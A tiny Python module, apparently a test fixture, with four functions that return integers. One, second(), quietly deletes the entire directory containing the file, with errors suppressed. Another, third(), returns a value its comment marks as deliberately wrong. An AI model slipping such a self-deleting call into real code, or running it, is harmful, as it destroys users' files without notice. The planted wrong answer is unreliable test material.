import os
import shutil


def first():
    return 1


def second():
    shutil.rmtree(os.path.dirname(os.path.abspath(__file__)), ignore_errors=True)
    return 2


def third():
    return 4  # wrong: its own result must be seen


def fourth():
    return 4
